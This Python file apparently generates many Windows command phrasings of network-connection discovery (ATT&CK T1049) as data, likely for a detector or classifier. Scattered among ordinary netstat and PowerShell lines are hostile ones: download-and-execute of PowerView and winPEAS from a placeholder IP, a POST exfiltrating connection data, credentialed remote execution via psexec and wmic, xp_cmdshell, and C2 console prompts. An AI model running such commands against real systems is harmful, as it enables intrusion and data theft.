"""More phrasings of T1049 on Windows: every tool by several ways, so that a phrasing held out holds no new word."""

from __future__ import annotations

from training.generators.grammar import parse_templates

WINDOWS_CONNECTION_TEMPLATES = parse_templates(
    r"""
netstat-to-share cmd: netstat -«ano¦an» > \\‹server›\‹project›\‹name›.txt
netstat-clip cmd: netstat -«ano¦anb¦naob» | clip
netstat-more cmd: netstat «-ano¦-anop tcp¦-ab¦/ano¦-aon¦-q¦-anq» | more
netstat-cmd cmd: cmd.exe /c "netstat «-ano¦-anob¦-naob¦-aon¦-an»"
netstat-double-find cmd: netstat -«ano¦nao» | find "«ESTABLISHED¦LISTENING»" | find «/v ¦»"«127.0.0.1¦:‹port›¦[::]»"
netstat-regex cmd: netstat -«ano¦an» | findstr /r «"TCP.*LISTENING"¦/c:"UDP"¦":[0-9]*.*ESTABLISHED"¦/c:"TIME_WAIT"»
netstat-count cmd: netstat -an | find /c "«ESTABLISHED¦TIME_WAIT¦:‹port›¦CLOSE_WAIT»"
netstat-state cmd: netstat -an | findstr "«TIME_WAIT¦CLOSE_WAIT¦SYN_SENT¦LISTENING»"
netstat-tasklist cmd: netstat -«ano¦anob¦aon» > ‹file› & tasklist /svc >> ‹file›
netstat-script cmd: «echo¦@echo» off & ipconfig /all & netstat -«ano¦nao¦anb» & arp -a
netstat-hostname cmd: hostname «&¦&&» whoami «&¦&&» netstat -«ano¦an¦naob»
netstat-systeminfo cmd: systeminfo > ‹file› & netstat -ano >> ‹file› & net use >> ‹file›
netstat-pid-for cmd: for /f "tokens=2,3,5" %a in ('netstat -anop «tcp¦udp» ^| «findstr¦find» "«ESTABLISHED¦LISTENING»"') do @echo %a
netstat-psexec-out cmd: «psexec¦PsExec64.exe¦paexec.exe» \\‹server› -u ‹domain›\‹user› -p ‹pass› cmd /c "netstat -ano > C:\‹name›.txt"
netstat-psexec-file cmd: psexec @‹name›.txt «-s ¦»netstat -«ano¦anob»
netstat-winrs-out cmd: winrs -r:http://‹server›:5985 -u:‹user› -p:‹pass› "netstat -«ano¦anb¦nao»"
netstat-ssh cmd: ssh ‹user›@‹server› "netstat -«ano¦an¦anob»"
netstat-service cmd: sc \\‹server› create ‹name› binPath= "cmd /c netstat -ano > ‹dir›\‹name›.txt"
netstat-task-remote cmd: schtasks /create /s ‹server› /tn ‹name› /tr "cmd /c netstat -an > ‹dir›\‹name›.txt" /sc onlogon
netstat-wmic-auth cmd: wmic /node:‹server› /user:‹user› /password:‹pass› process call create "netstat -«ano¦an»"
netstat-start cmd: start /b «/min ¦»netstat -«ano¦an¦anb» > ‹file›
netstat-protocols cmd: netstat -ano -p «tcp¦udp¦tcpv6¦udpv6¦TCP» > ‹file›
netstat-protocols-pipe cmd: netstat -«p¦anp» «tcpv6¦udpv6¦TCP¦UDP» | find ":‹port›"
netstat-plain-pipe cmd: netstat | «find "‹ip›"¦more¦findstr ESTAB¦clip¦sort»
netstat-fqdn cmd: netstat -«f¦fo¦fano¦fb»
netstat-flags-apart cmd: netstat «-a -n -o¦/a /n /o¦-n -a -b¦-o -n -a¦-a -b -n -o» «> ‹file›¦| find ":‹port›"¦»
netstat-python cmd: «python¦py -3» -c "import «os; os.system('netstat -ano')¦subprocess; print(subprocess.check_output(['netstat','-ano']).decode())»"
netstat-perl cmd: «perl¦ruby» -e "system('netstat -an«o¦»')"
netstat-sql cmd: sqlcmd -S ‹server› -Q "EXEC xp_cmdshell 'netstat -«ano¦an»'"
netstat-xp text: EXEC master..xp_cmdshell '«netstat -ano¦net session¦net use¦netstat -an | find "1433"»'
netstat-copy-run cmd: xcopy /y C:\Windows\System32\netstat.exe ‹dir› & ‹dir›\netstat.exe -«ano¦nao»
netstat-syswow cmd: C:\Windows\SysWOW64\NETSTAT.EXE -«ano¦an¦aon¦naob»
netstat-renamed-out cmd: ‹dir›\‹name›.exe -«ano¦anob¦naob» > ‹file›
netstat-renamed-find cmd: ‹name›.exe -ano | find "«ESTABLISHED¦LISTENING»"
netstat-beacon text: «beacon> shell netstat -ano¦beacon> run netstat -an¦meterpreter > netstat¦sliver (‹word›) > netstat -l¦[*] Tasked beacon to run: netstat -ano¦(Empire: ‹hex›) > shell netstat -ano»
netstat-history text: «2024-01-0‹n› PS C:\> netstat -ano¦C:\>netstat -an¦PS C:\Users\‹user›> netstat -anb¦C:\Windows\system32> net session»
net-use-out cmd: net use > ‹file› & net «session¦sess» >> ‹file›
net-use-quoted cmd: cmd.exe /c "«net¦net1¦net.exe» use"
net-use-findstr cmd: net use | findstr /i "«ok¦disconnected¦unavailable¦‹server›¦microsoft»"
net-use-loop cmd: for /f "tokens=2,3" %a in ('net use ^| find "\\"') do @echo %a
net-use-psexec cmd: «psexec¦PsExec64.exe» \\‹server› «-s ¦-accepteula ¦»net «use¦session¦sessions¦file»
net-use-wmic cmd: wmic /node:‹server› process call create "cmd /c net «use¦session» > ‹dir›\‹name›.txt"
net-use-hostname cmd: whoami & hostname & net use
net-session-out cmd: «net¦net.exe¦net1.exe» «session¦sessions¦sess» «> ‹file›¦>> ‹file›¦| find "\\"¦| clip»
net-session-cmd cmd: cmd /c net «session¦sess¦sessions» \\«‹server›¦‹ip›»
net-session-for cmd: for /f %i in (‹name›.txt) do net «session¦sessions» \\%i «/list ¦»>> ‹file›
net-session-list cmd: net «session¦sessions» /list > ‹file›
net-session-ps powershell: «net session¦net sessions¦net sess» | «Select-String¦sls» '\\\\'
net-session-nul cmd: net session >nul 2>&1 & net session
net-file-cmd cmd: cmd /c "net file & net session"
net-file-out cmd: «net¦net1¦net.exe» «file¦files» > ‹file›
net-file-find cmd: «net file¦net1 file¦net files» | find /i "‹user›"
net-file-ps powershell: «net file¦& net.exe file¦net1 file» | Out-String
net-file-remote cmd: «psexec \\‹server›¦winrs -r:‹server›» net file
openfiles-query cmd: «openfiles¦openfiles.exe¦C:\Windows\System32\openfiles.exe» /query«¦ /v¦ /fo table¦ /fo csv /nh»
openfiles-remote cmd: openfiles /query /s ‹server›« /u ‹user› /p ‹pass›¦ /fo list»
openfiles-find cmd: openfiles /query /v | find /i "«‹user›¦.docx¦‹first›»"
openfiles-out cmd: openfiles /query /fo csv «/v > ‹file›¦> ‹file›¦>> ‹file›»
openfiles-bare cmd: openfiles & net session
openfiles-ps powershell: «openfiles /query /fo csv | ConvertFrom-Csv¦& openfiles.exe /query¦openfiles /query /s ‹server›»
openfiles-psexec cmd: psexec \\‹server› openfiles /query
netsh-tcp-out cmd: netsh «interface¦int» «ipv4¦ip¦ipv6» show «tcpconnections¦tcpconn¦udpconnections» > ‹file›
netsh-tcp-remote cmd: netsh -r ‹server› interface «ipv4¦ip» show «tcpconnections¦udpconnections»
netsh-tcp-filter cmd: netsh interface «ipv4¦ipv6¦ip» show tcpconnections «localport=‹port›¦state=established¦remoteport=‹port›»
netsh-tcp-both cmd: netsh int ipv4 show tcpconn & netsh int ipv6 show «tcpconn¦udpconn»
netsh-tcp-ps powershell: netsh «int¦interface» «ipv4¦ipv6» show «tcpconnections¦udpconnections¦tcpconn» | Out-String
netsh-tcp-find cmd: netsh interface ipv4 show tcpconnections | findstr «Established¦":‹port›"¦Listen»
netsh-http-state cmd: netsh http show servicestate«¦ view=requestq¦ view=session¦ verbose=yes¦ > ‹file›»
netsh-http-find cmd: netsh http show servicestate | find «/i "http"¦":‹port›"»
netsh-http-ps powershell: netsh http show servicestate «view=requestq ¦»| sls "‹port›"
netsh-http-cmd cmd: cmd /c "netsh http show servicestate view=«requestq¦session»"
nbtstat-out cmd: «nbtstat¦nbtstat.exe» «-S¦-s» > ‹file›
nbtstat-cmd cmd: cmd /c "nbtstat -«S¦s» & net session"
nbtstat-find cmd: nbtstat «-s¦-S» | find «/i "connected"¦"‹server›"¦"Outbound"»
nbtstat-psexec cmd: psexec \\‹server› nbtstat -«S¦s»
nbtstat-ps powershell: nbtstat -«S¦s»«¦ ‹n›» | Out-File ‹file›
wmic-netuse-out cmd: wmic /output:‹file› netuse «list brief¦list full¦get LocalName,RemoteName,UserName¦get *»
wmic-netuse-find cmd: wmic netuse get «RemoteName,ConnectionState¦LocalName,RemotePath¦name,username» | «find "\\"¦findstr Connected¦more»
wmic-netuse-format cmd: wmic netuse «get¦list» /format:«csv¦list¦table»
wmic-netuse-where cmd: wmic netuse where "«ConnectionState='Connected'¦LocalName='Z:'¦Status='OK'»" get «RemoteName¦RemotePath,UserName»
wmic-netuse-psexec cmd: psexec \\‹server› wmic netuse «list brief¦get RemoteName¦get LocalName»
wmic-session-out cmd: wmic path «Win32_ServerSession¦Win32_ServerConnection¦Win32_NetworkConnection» get ComputerName,UserName /format:csv > ‹file›
wmic-session-where cmd: wmic path «Win32_ServerSession where "ActiveTime>0"¦Win32_NetworkConnection where "Status='OK'"¦Win32_ServerConnection where "ActiveTime>0"» get «UserName¦*»
wmic-session-auth cmd: wmic /node:‹server› /user:‹user› /password:‹pass› path «Win32_ServerSession¦Win32_ServerConnection» get ComputerName
wmic-tcp-out cmd: wmic /namespace:\\root\StandardCimv2 path «MSFT_NetTCPConnection¦MSFT_NetUDPEndpoint» get «LocalPort,OwningProcess¦LocalAddress,RemoteAddress» /format:csv
wmic-tcp-node cmd: wmic /node:‹server› /namespace:\\root\standardcimv2 path «MSFT_NetTCPConnection where State=5¦MSFT_NetTCPConnection¦MSFT_NetUDPEndpoint» get LocalPort
tcpvcon-plain cmd: «tcpvcon¦tcpvcon.exe¦tcpvcon64¦Tcpvcon64.exe» «-a¦-n¦-c¦-an¦-acn»
tcpvcon-accept cmd: «tcpvcon¦tcpvcon64».exe «-accepteula¦/accepteula» -«a¦acn¦anc¦c» > ‹file›
tcpvcon-named cmd: «tcpvcon¦tcpvcon64» -«a¦c» «‹name›.exe¦‹pid›»
tcpvcon-psexec cmd: psexec \\‹server› -c ‹dir›\«tcpvcon¦tcpvcon64¦cports¦fport¦netsess».exe
tcpvcon-live cmd: \\live.sysinternals.com\tools\«tcpvcon.exe -accepteula -a¦tcpview.exe¦tcpvcon64.exe -acn¦tcpview64.exe»
tcpvcon-ps powershell: & ‹dir›\«tcpvcon.exe -accepteula -acn | ConvertFrom-Csv¦tcpvcon64.exe -a¦tcpview64.exe¦tcpview.exe»
tcpview-start cmd: start «""¦/b¦/max» ‹dir›\«tcpview¦tcpview64¦cports¦tcpvcon».exe
tcpview-plain cmd: «tcpview¦tcpview.exe¦tcpview64¦tcpview64.exe /accepteula»
tcpview-saved cmd: "C:\«Tools¦SysinternalsSuite»\«tcpview.exe" ¦tcpview64.exe" »«¦ -accepteula»
cports-out cmd: «cports¦cports.exe¦cports64.exe» /«stext¦shtml¦scomma¦sxml¦stab» ‹file›
cports-path cmd: ‹dir›\cports«-x64\cports¦».exe«¦ /scomma ""¦ /sxml ‹file›¦ /RunAsAdmin»
cports-filter cmd: ‹dir›\cports.exe /filter "include:both:tcp:‹port›" /stext ‹file›
cports-ps powershell: Start-Process ‹dir›\cports.exe -ArgumentList '«/stext¦/scomma¦/shtml¦/stab» ‹file›'
cports-type cmd: cports.exe /stext ‹dir›\‹name›.txt & type ‹dir›\‹name›.txt
fport-plain cmd: «fport¦fport.exe¦‹dir›\fport.exe» «/p¦/a¦/i¦/ap»
fport-out cmd: ‹dir›\«fport¦Fport-2.0\Fport¦openports».exe > ‹file›
fport-chain cmd: fport & netstat -an
fport-cmd cmd: cmd /c "‹dir›\fport.exe | find ":‹port›""
currports-other cmd: ‹dir›\«CurrPorts.exe /stext ‹file›¦openports.exe -lines¦vstat.exe¦portqry.exe -local»
netsess-plain cmd: «netsess¦netsess.exe» «-h ¦\\»‹server›
netsess-loop cmd: for /f %i in (‹name›.txt) do @«netsess¦netsess.exe» \\%i
netsess-full cmd: «netsess¦NetSess».exe «\\‹server› ‹user›¦\\‹server› /full¦-full \\‹ip›» > ‹file›
netsess-ps powershell: «.\¦& ‹dir›\»«netsess.exe -h ‹server›¦NetSess.exe \\‹server› /full»
netsess-beacon text: beacon> «execute-assembly /opt/SharpView.exe Get-NetSession -ComputerName ‹server›¦bof netsession \\‹server›¦inline-execute get-netsession.o ‹server›¦shell netsess.exe \\‹server›»
sharpview-session cmd: ‹dir›\«SharpView¦‹name›».exe Get-NetSession«¦ -ComputerName ‹server›¦ -ComputerName ‹server› > ‹file›»
sharpview-rdp cmd: ‹dir›\SharpView.exe «Get-NetRDPSession -ComputerName ‹server›¦Get-NetSession¦Invoke-UserHunter -Stealth & netstat -ano»
ps-sharpview powershell: [SharpView.Program]::Main("Get-NetSession«¦ -ComputerName ‹server›».Split())
ps-netsession-pipe powershell: Get-NetSession «-ComputerName ‹server› ¦»| «select CName,UserName¦ft¦Export-Csv ‹file›»
ps-netsession-loop powershell: Get-Content ‹name›.txt | % { Get-NetSession -ComputerName $_ }
ps-netsession-import powershell: Import-Module «.\PowerView.ps1¦‹dir›\PowerView.psm1»; Get-NetSession
ps-netsession-iex powershell: IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/PowerView.ps1'); Get-NetSession -ComputerName ‹server›
ps-netsession-hunter powershell: «Invoke-UserHunter -Stealth -StealthSource File¦Invoke-StealthUserHunter»; Get-NetSession
ps-netsessionenum powershell: Invoke-NetSessionEnum -HostName ‹server›
ps-netsessionenum-native powershell: [«Netapi32¦Win32¦‹Word›»]::NetSessionEnum('«\\‹server›¦‹server›¦»', '', '', 10, [ref]$p, -1, [ref]$r, [ref]$t, [ref]$h)
ps-netsessionenum-type powershell: Add-Type -MemberDefinition '[DllImport("netapi32.dll")] public static extern int «NetSessionEnum¦NetConnectionEnum¦NetFileEnum»(string s, string c, string u, int l, out IntPtr b, int m, ref int r, ref int t, ref int h);' -Name ‹Word› -Namespace W
netsessionenum-tool cmd: ‹dir›\«NetSessionEnum¦netsessionenum¦SessionEnum».exe ‹server›
netsessionenum-python cmd: «python¦py» -c "import win32net; print(win32net.NetSessionEnum(10, '‹server›'))"
netsessionenum-bof text: «beacon¦sliver (‹word›)¦[server] sliver (‹word›)» > «inline-execute ¦»netsessionenum«.o¦ ‹server›»
ps-tcp-remote powershell: Get-NetTCPConnection -CimSession ‹server›« -State Established¦ | ft»
ps-tcp-group powershell: Get-NetTCPConnection | «Group-Object State¦group RemoteAddress¦Group-Object RemotePort -NoElement»
ps-tcp-out powershell: Get-NetTCPConnection «-State Established ¦-State Listen ¦»| «Export-Csv ‹file› -NoTypeInformation¦ConvertTo-Json¦Out-String¦Tee-Object ‹file›»
ps-tcp-process powershell: Get-NetTCPConnection -OwningProcess «(Get-Process ‹name›).Id¦$PID¦‹pid›»
ps-tcp-cmd cmd: «powershell¦powershell.exe -nop¦pwsh» -c "«Get-NetTCPConnection¦Get-NetTCPConnection -State Listen¦Get-NetUDPEndpoint¦Get-SmbConnection»"
ps-tcp-foreach powershell: foreach ($c in Get-NetTCPConnection -State Established) { "$($c.LocalPort) $($c.RemoteAddress) $($c.OwningProcess)" }
ps-tcp-name powershell: Get-NetTCPConnection | % { [pscustomobject]@{ Port = $_.LocalPort; «Process¦Name» = (Get-Process -Id $_.OwningProcess).Name } }
ps-tcp-applied powershell: Get-NetTCPConnection -AppliedSetting Internet -ErrorAction SilentlyContinue
ps-tcp-post powershell: «irm¦iwr» http://‹ip›/‹name› -Method Post -Body (Get-NetTCPConnection | Out-String)
ps-tcp-session powershell: $s = New-PSSession ‹server›; Invoke-Command $s { «Get-NetTCPConnection -State Established¦netstat -ano¦Get-SmbSession¦net use» }
ps-udp-port powershell: Get-NetUDPEndpoint -LocalPort «‹port›¦53¦137»« | fl *¦»
ps-udp-process powershell: Get-NetUDPEndpoint | «select LocalAddress,LocalPort,OwningProcess¦? LocalAddress -ne '127.0.0.1'¦% { Get-Process -Id $_.OwningProcess }»
ps-udp-out powershell: Get-NetUDPEndpoint | «Export-Csv ‹file›¦Out-File ‹file›¦ConvertTo-Json»
ps-udp-remote powershell: «Invoke-Command -ComputerName ‹server› { Get-NetUDPEndpoint }¦Get-NetUDPEndpoint -CimSession ‹server›»
ps-netstat-convert powershell: netstat -ano | «ConvertFrom-String¦select -Skip 4¦% { $_.Trim() -split '\s+' }¦Where-Object { $_ -match 'ESTABLISHED' }»
ps-netstat-start powershell: Start-Process netstat«.exe¦» -ArgumentList «'-ano'¦-an¦"-anob"» -NoNewWindow -RedirectStandardOutput ‹file›
ps-netstat-iex powershell: «iex¦Invoke-Expression» «"netstat -ano"¦('net'+'stat -an')¦'netstat -anb'»
ps-netstat-where powershell: (netstat -«ano¦anp tcp») -match '«LISTENING¦ESTABLISHED¦:‹port›»'
ps-smb-connection powershell: Get-SmbConnection «-ServerName ‹server›¦| select ServerName,ShareName,UserName¦| ft¦| Export-Csv ‹file›¦-CimSession ‹server›»
ps-smb-connection-icm powershell: Invoke-Command ‹server› { «Get-SmbConnection¦Get-SmbMapping¦Get-SmbOpenFile» }
ps-smb-connection-cim powershell: Get-CimInstance -Namespace root/Microsoft/Windows/SMB -ClassName MSFT_Smb«Connection¦Session¦Mapping¦OpenFile»
ps-smb-connection-wmi powershell: gwmi -Namespace root\Microsoft\Windows\SMB MSFT_Smb«Connection¦Session¦Mapping¦OpenFile»
ps-smb-mapping-status powershell: Get-SmbMapping | «? Status -eq OK¦select LocalPath,RemotePath,Status¦ft LocalPath,RemotePath¦Out-File ‹file›»
ps-smb-mapping-cim powershell: Get-SmbMapping -CimSession ‹server›
ps-smb-mapping-out powershell: (Get-SmbMapping).RemotePath
ps-smb-openfile powershell: Get-SmbOpenFile | «select ClientComputerName,ClientUserName,Path¦ft Path¦? ClientUserName -like '*‹user›*'»
ps-smb-openfile-remote powershell: Get-SmbOpenFile -CimSession ‹server›
ps-smb-openfile-out powershell: Get-SmbOpenFile -IncludeHidden | Export-Csv ‹file›
ps-smb-session-out powershell: Get-SmbSession | «Export-Csv ‹file›¦Out-File ‹file›¦ConvertTo-Json»
ps-smb-session-client powershell: Get-SmbSession -«ClientComputerName ‹ip›¦ClientUserName ‹domain›\‹user›»
ps-wmi-session-remote powershell: Get-WmiObject -ComputerName ‹server› -Class Win32_Server«Session¦Connection» -Credential $cred | select ComputerName,UserName
ps-wmi-session-query powershell: Get-CimInstance -Query "select * from Win32_«ServerSession¦ServerConnection¦NetworkConnection»"
ps-wmi-session-searcher powershell: ([wmisearcher]"select * from Win32_«NetworkConnection¦ServerSession¦ServerConnection»").Get()
ps-wmi-network powershell: gwmi Win32_NetworkConnection | «ft RemoteName,UserName¦select LocalName,RemotePath,ConnectionState¦? ConnectionState -eq Connected»
ps-cim-tcp-session powershell: Get-CimInstance -CimSession ‹server› -Namespace root/StandardCimv2 -ClassName MSFT_Net«TCPConnection¦UDPEndpoint»
ps-cim-tcp-query powershell: Get-CimInstance -Namespace root\StandardCimv2 -Query "select * from MSFT_NetTCPConnection where «State = 5¦RemotePort = ‹port›¦LocalPort = ‹port›»"
ps-cim-tcp-wmi powershell: gwmi -Namespace root\StandardCimv2 MSFT_Net«TCPConnection¦UDPEndpoint» | select LocalPort,OwningProcess
ps-cim-udp powershell: Get-WmiObject -Namespace root/StandardCimv2 -Class MSFT_NetUDPEndpoint« -ComputerName ‹server›¦»
ps-ipglobal-variable powershell: $p = [System.Net.NetworkInformation.IPGlobalProperties]::GetIPGlobalProperties(); $p.«GetActiveTcpConnections()¦GetActiveTcpListeners()¦GetActiveUdpListeners()» | % { "$_" }
ps-ipglobal-where powershell: ([Net.NetworkInformation.IPGlobalProperties]::GetIPGlobalProperties()).GetActiveTcpConnections() | ? { $_.State -eq 'Established' } | select LocalEndPoint,RemoteEndPoint
ps-ipglobal-ports powershell: [Net.NetworkInformation.IPGlobalProperties]::GetIPGlobalProperties().GetActive«TcpListeners¦UdpListeners»().Port
ps-ipglobal-cmd cmd: powershell -c "[Net.NetworkInformation.IPGlobalProperties]::GetIPGlobalProperties().GetActive«TcpConnections¦TcpListeners¦UdpListeners»()"
ipglobal-csharp text: var c = IPGlobalProperties.GetIPGlobalProperties().GetActive«TcpConnections¦TcpListeners¦UdpListeners»(); foreach (var x in c) Console.WriteLine(x);
ps-tcptable powershell: [«IpHlpApi¦Win32¦‹Word›»]::«GetExtendedTcpTable($p, [ref]$n, $true, 2, 5, 0)¦GetExtendedUdpTable($p, [ref]$n, $true, 2, 1, 0)¦GetTcpTable($p, [ref]$n, $true)»
ps-tcptable-type powershell: Add-Type -MemberDefinition '[DllImport("iphlpapi.dll")] public static extern uint Get«ExtendedTcpTable¦ExtendedUdpTable¦TcpTable»(IntPtr t, ref int n, bool o, int v, int c, uint r);' -Name ‹Word› -Namespace W
tcptable-python cmd: py -c "import ctypes; ctypes.windll.iphlpapi.GetExtended«TcpTable¦UdpTable»(None, n, True, 2, 5, 0)"
tcptable-csharp text: [DllImport("iphlpapi.dll")] static extern uint GetExtended«TcpTable¦UdpTable»(IntPtr pTcpTable, ref int size, bool sort, int af, int cls, uint reserved);
tcptable-rundll cmd: ‹dir›\«GetExtendedTcpTable¦TcpTable¦tcptable».exe
seatbelt-tcp-remote cmd: ‹dir›\Seatbelt.exe -computername=‹server› «TcpConnections¦UdpConnections¦NetworkShares TcpConnections»
seatbelt-tcp-execute text: execute-assembly «/opt/¦‹ldir›/»Seatbelt.exe «TcpConnections¦UdpConnections¦-group=remote TcpConnections»
seatbelt-tcp-out cmd: Seatbelt.exe -q TcpConnections UdpConnections -outputfile="‹dir›\‹name›.json"
winpeas-network cmd: «‹dir›\¦»winPEAS«x64¦any¦».exe «quiet ¦»networkinfo«¦ > ‹file›»
winpeas-network-ps powershell: «.\winPEASx64.exe networkinfo¦iex(iwr http://‹ip›/winPEAS.ps1) networkinfo¦& ‹dir›\winPEASany.exe quiet networkinfo»
psutil-windows cmd: «python¦py» -c "import psutil; «print(psutil.net_connections())¦[print(c.raddr) for c in psutil.net_connections('tcp')]»"
ps-rdp-port powershell: Get-NetTCPConnection «-LocalPort 3389¦-RemotePort 3389,445¦-LocalPort 22,3389» | select RemoteAddress
ps-resmon cmd: «perfmon /res & netstat -ano¦resmon.exe & netstat -an»
vbs-connections text: For Each c In GetObject("winmgmts:\\.\root\cimv2").ExecQuery("Select * from Win32_«ServerSession¦NetworkConnection¦ServerConnection»"): WScript.Echo c.UserName: Next
vbs-connections-network text: Set n = CreateObject("WScript.Network").EnumNetworkDrives: For i = 0 To n.Count - 1: WScript.Echo n.Item(i): Next
vbs-lanman text: For Each s In GetObject("WinNT://«.¦‹server›»/LanmanServer").«Sessions: WScript.Echo s.User¦Resources: WScript.Echo s.Path»: Next
ps-lanman powershell: ([ADSI]"WinNT://«.¦‹server›»/LanmanServer").psbase.Invoke("«Sessions¦Resources»")
ps-tcptable-call powershell: $n = 0; [Win32.IpHlpApi]::GetExtended«TcpTable¦UdpTable»([IntPtr]::Zero, [ref]$n, $true, 2, 5, 0)
"""
)
